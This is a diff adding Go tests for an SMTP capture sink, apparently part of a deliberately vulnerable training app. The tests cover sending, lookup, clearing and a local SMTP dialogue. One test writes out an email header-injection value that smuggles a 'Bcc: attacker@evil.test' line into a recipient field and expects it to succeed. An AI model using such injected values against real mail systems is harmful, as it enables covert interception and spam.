@@ -0,0 +1,142 @@
+package sinks
+
+import (
+	"bufio"
+	"fmt"
+	"net"
+	"strings"
+	"testing"
+)
+
+// TestSMTP_Send tests capturing a message handed over directly
+func TestSMTP_Send(t *testing.T) {
+	s := NewSMTP()
+
+	email, err := s.Send("", []string{"rick@example.com"},
+		"From: no-reply@flawfactory.local\r\nSubject: Password reset\r\n\r\nReset link: http://example.com/reset?token=abc\r\n")
+	if err != nil {
+		t.Fatalf("Send failed: %v", err)
+	}
+
+	if email.ID != 1 {
+		t.Errorf("Expected ID 1, got %d", email.ID)
+	}
+	if email.From != "no-reply@flawfactory.local" {
+		t.Errorf("Expected From from header, got '%s'", email.From)
+	}
+	if email.Subject != "Password reset" {
+		t.Errorf("Expected subject 'Password reset', got '%s'", email.Subject)
+	}
+	if !strings.Contains(email.Body, "token=abc") {
+		t.Errorf("Expected body to contain the link, got '%s'", email.Body)
+	}
+	if len(s.Messages()) != 1 {
+		t.Errorf("Expected 1 stored message, got %d", len(s.Messages()))
+	}
+}
+
+// TestSMTP_HeaderInjection tests that injected Cc/Bcc headers become recipients
+func TestSMTP_HeaderInjection(t *testing.T) {
+	s := NewSMTP()
+
+	// A bare LF is enough to start a new header
+	to := "victim@example.com\nBcc: attacker@evil.test"
+	email, err := s.Send("app@example.com", nil, "To: "+to+"\r\nSubject: Hi\r\n\r\nbody")
+	if err != nil {
+		t.Fatalf("Send failed: %v", err)
+	}
+
+	if len(email.To) != 2 || email.To[1] != "attacker@evil.test" {
+		t.Errorf("Expected injected Bcc recipient, got %v", email.To)
+	}
+	if got := s.MessagesFor("ATTACKER@evil.test"); len(got) != 1 {
+		t.Errorf("Expected 1 message for attacker, got %d", len(got))
+	}
+}
+
+// TestSMTP_NoRecipients tests that messages without recipients are rejected
+func TestSMTP_NoRecipients(t *testing.T) {
+	s := NewSMTP()
+	if _, err := s.Send("a@example.com", nil, "Subject: nobody\r\n\r\nbody"); err == nil {
+		t.Error("Expected error for message without recipients")
+	}
+}
+
+// TestSMTP_MessageAndClear tests lookups by ID and clearing the mailbox
+func TestSMTP_MessageAndClear(t *testing.T) {
+	s := NewSMTP()
+	s.Send("a@example.com", []string{"b@example.com"}, "Subject: one\r\n\r\n1")
+	s.Send("a@example.com", []string{"c@example.com"}, "Subject: two\r\n\r\n2")
+
+	email, ok := s.Message(2)
+	if !ok || email.Subject != "two" {
+		t.Errorf("Expected message 2 with subject 'two', got %v %+v", ok, email)
+	}
+	if _, ok := s.Message(3); ok {
+		t.Error("Expected message 3 to be missing")
+	}
+
+	s.Clear()
+	if len(s.Messages()) != 0 {
+		t.Error("Expected empty mailbox after Clear")
+	}
+}
+
+// TestSMTP_Listen tests receiving a message over the SMTP protocol
+func TestSMTP_Listen(t *testing.T) {
+	s := NewSMTP()
+	if err := s.Listen("127.0.0.1:0"); err != nil {
+		t.Fatalf("Listen failed: %v", err)
+	}
+	defer s.Close()
+
+	conn, err := net.Dial("tcp", s.Addr())
+	if err != nil {
+		t.Fatalf("Dial failed: %v", err)
+	}
+	defer conn.Close()
+
+	reader := bufio.NewReader(conn)
+	expect := func(code string) {
+		t.Helper()
+		for {
+			line, err := reader.ReadString('\n')
+			if err != nil {
+				t.Fatalf("Read failed: %v", err)
+			}
+			if !strings.HasPrefix(line, code) {
+				t.Fatalf("Expected %s reply, got %q", code, line)
+			}
+			// Multi-line replies continue with "250-"
+			if len(line) < 4 || line[3] != '-' {
+				return
+			}
+		}
+	}
+	send := func(line, code string) {
+		t.Helper()
+		fmt.Fprintf(conn, "%s\r\n", line)
+		expect(code)
+	}
+
+	expect("220")
+	send("EHLO client.test", "250")
+	send("RCPT TO:<rick@example.com>", "503")
+	send("MAIL FROM:<app@example.com> SIZE=100", "250")
+	send("RCPT TO:<rick@example.com>", "250")
+	send("DATA", "354")
+	send("Subject: over smtp\r\n\r\n..dotted line\r\n.", "250")
+	send("QUIT", "221")
+
+	messages := s.Messages()
+	if len(messages) != 1 {
+		t.Fatalf("Expected 1 message, got %d", len(messages))
+	}
+	email := messages[0]
+	if email.Source != "smtp" || email.From != "app@example.com" || email.Subject != "over smtp" {
+		t.Errorf("Unexpected message: %+v", email)
+	}
+	if !strings.HasPrefix(email.Body, ".dotted line") {
+		t.Errorf("Expected dot-stuffing removed, got %q", email.Body)
+	}
+}